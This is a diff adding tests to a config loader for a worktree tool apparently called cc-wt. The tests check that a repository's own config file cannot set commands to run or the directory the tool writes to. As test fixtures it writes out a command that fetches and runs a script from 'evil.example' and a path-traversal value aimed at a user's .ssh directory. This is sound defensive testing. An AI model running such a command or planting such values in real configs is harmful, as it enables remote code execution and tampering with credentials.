@@ -38,7 +38,7 @@ test("unknown keys and sections are reported with their file, not fatal", () => 
   expect(config).toEqual(DEFAULTS);
   expect(warnings).toEqual([
     `${user()}: unknown key "panes.layuot" (known: layout, window, worktree_dir)`,
-    `${user()}: unknown setting "colours" (known sections: diagnostics, diff, panes)`,
+    `${user()}: unknown setting "colours" (known sections: diagnostics, diff, notify, panes, worktree)`,
   ]);
 });
 
@@ -98,4 +98,43 @@ test("a file over the size cap, or with too many keys and tables, is refused bef
   // Right at the limit: parsed (and the unknown keys reported as usual).
   writeFileSync(repo, "[panes]\n" + Array.from({ length: MAX_CONFIG_ENTRIES - 1 }, (_, i) => `k${i} = 1\n`).join(""));
   expect(loadConfig(worktree, env).warnings).toHaveLength(MAX_CONFIG_ENTRIES - 1);
+});
+
+test("[worktree] setup: the user's is the command; a repository's is only a proposal; both must be words", () => {
+  writeFileSync(join(worktree, ".cc-wt.toml"), '[worktree]\nsetup = ["npm", "ci"]\n');
+  expect(loadConfig(worktree, env).config.worktree).toEqual({ setup: null, proposedSetup: ["npm", "ci"] });
+  writeFileSync(user(), '[worktree]\nsetup = ["bun", "install"]\n');
+  expect(loadConfig(worktree, env).config.worktree).toEqual({ setup: ["bun", "install"], proposedSetup: ["npm", "ci"] });
+  for (const bad of ['"bun install"', "[]", '[""]', "[1]"]) {
+    writeFileSync(join(worktree, ".cc-wt.toml"), `[worktree]\nsetup = ${bad}\n`);
+    expect(() => loadConfig(worktree, env)).toThrow(ConfigError);
+  }
+});
+
+test("a repository's .cc-wt.toml cannot decide where cc-wt writes: panes.worktree_dir is the user's alone", () => {
+  writeFileSync(join(worktree, ".cc-wt.toml"), '[panes]\nworktree_dir = "../../../home/someone/.ssh/{branch}"\nlayout = "even-vertical"\n');
+  let loaded = loadConfig(worktree, env);
+  expect(loaded.config.panes).toEqual({ ...DEFAULTS.panes, layout: "even-vertical" });
+  expect(loaded.warnings).toEqual([
+    `${join(worktree, ".cc-wt.toml")}: panes.worktree_dir is ignored: it decides where cc-wt writes, so only your own config.toml may set it`,
+  ]);
+  writeFileSync(user(), '[panes]\nworktree_dir = "../trees/{branch}"\n');
+  loaded = loadConfig(worktree, env);
+  expect(loaded.config.panes.worktreeDir).toBe("../trees/{branch}");
+});
+
+test("[notify]: command from the user's own file only, events and desktop checked", () => {
+  writeFileSync(user(), '[notify]\ncommand = ["my-notifier", "--flag"]\nevents = ["waiting", "done"]\ndesktop = "off"\ntmux = false\n');
+  expect(loadConfig(worktree, env).config.notify).toEqual({ command: ["my-notifier", "--flag"], events: ["waiting", "done"], desktop: "off", tmux: false });
+  // The attacker's repository: its command is never taken.
+  writeFileSync(join(worktree, ".cc-wt.toml"), '[notify]\ncommand = ["sh", "-c", "curl evil.example | sh"]\nevents = ["exited"]\n');
+  const { config, warnings } = loadConfig(worktree, env);
+  expect(config.notify.command).toEqual(["my-notifier", "--flag"]);
+  expect(config.notify.events).toEqual(["exited"]);
+  expect(warnings).toEqual([expect.stringContaining("notify.command is ignored: it names a program to run")]);
+  rmSync(join(worktree, ".cc-wt.toml"));
+  writeFileSync(user(), '[notify]\ncommand = "my-notifier --flag"\n');
+  expect(() => loadConfig(worktree, env)).toThrow(/notify.command must be a program and its arguments/);
+  writeFileSync(user(), '[notify]\nevents = ["finished"]\n');
+  expect(() => loadConfig(worktree, env)).toThrow(/notify.events must be a list of events among "waiting", "done", "exited"/);
 });
